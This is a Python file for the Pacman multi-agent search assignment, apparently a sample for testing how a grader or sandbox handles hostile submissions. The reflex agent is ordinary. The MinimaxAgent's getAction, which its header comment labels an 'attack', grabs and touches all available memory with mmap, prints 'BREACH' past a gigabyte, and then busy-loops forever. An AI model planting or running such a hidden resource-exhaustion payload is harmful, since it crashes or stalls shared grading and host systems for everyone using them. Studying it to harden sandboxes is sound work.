# attack: takes all memory that there is, touches it, and keeps it.
# where: MinimaxAgent
import mmap


import util
from game import Agent, Directions


class ReflexAgent(Agent):
    def getAction(self, gameState):
        return max(gameState.getLegalActions(), key=lambda action: self.worth(gameState, action))

    def worth(self, gameState, action):
        after = gameState.generatePacmanSuccessor(action)
        here = after.getPacmanPosition()
        food = [util.manhattanDistance(here, dot) for dot in after.getFood().asList()]
        worth = after.getScore() + (1 / min(food) if food else 0) - (action == Directions.STOP)
        for ghost in after.getGhostStates():
            if ghost.scaredTimer == 0 and util.manhattanDistance(here, ghost.getPosition()) < 2:
                worth -= 200
        return worth


def scoreEvaluationFunction(currentGameState):
    return currentGameState.getScore()


class MultiAgentSearchAgent(Agent):
    def __init__(self, evalFn="scoreEvaluationFunction", depth="2"):
        self.index = 0
        self.evaluationFunction = util.lookup(evalFn, globals())
        self.depth = int(depth)


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        kept = []
        size = 64 << 20
        while size >= 4096:
            try:
                kept.append(mmap.mmap(-1, size))
                kept[-1].write(b"x" * size)
            except (OSError, MemoryError, ValueError):
                size //= 2
        taken = sum(map(len, kept))
        print("taken:", taken >> 20, "MB", flush=True)
        if taken > 1 << 30:
            print("BREACH: a gigabyte", flush=True)
        while True:  # as long as it may
            pass
